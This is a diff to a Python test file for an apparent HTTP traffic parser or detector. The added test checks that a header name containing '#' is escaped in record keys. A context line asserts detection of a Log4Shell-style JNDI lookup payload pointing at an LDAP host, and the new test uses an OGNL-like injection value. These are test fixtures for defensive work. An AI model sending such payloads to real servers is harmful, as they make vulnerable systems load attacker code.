@@ -268,3 +268,12 @@ def test_an_h2c_body_is_judged_window_by_window_too() -> None:
     for upgrade in (False, True):
         recs = records(h2c_stream([(head, body)], upgrade=upgrade), 5000)
         assert b"${jndi:ldap://198.18.0.9/a}" in values(recs, "http.lookups"), upgrade
+
+
+def test_a_header_name_holding_a_hash_never_looks_like_a_variant_key() -> None:
+    """A header may be named "x#1" ("#" is a token character); in a record key "#" starts a
+    variant (registry.variant_key), so the name is written %23 there, OGNL variant included."""
+    (rec,) = records(b"GET / HTTP/1.1\r\nHost: a\r\nX#1: %{\\u0023a}\r\n\r\n")
+    assert rec.fields["http.header.x%231"] == b"%{\\u0023a}"
+    assert all("#" not in key or key.rsplit("#", 1)[1].isdigit() for key in rec.fields)
+    assert not any(key.startswith("http.header.x#") for key in rec.fields)
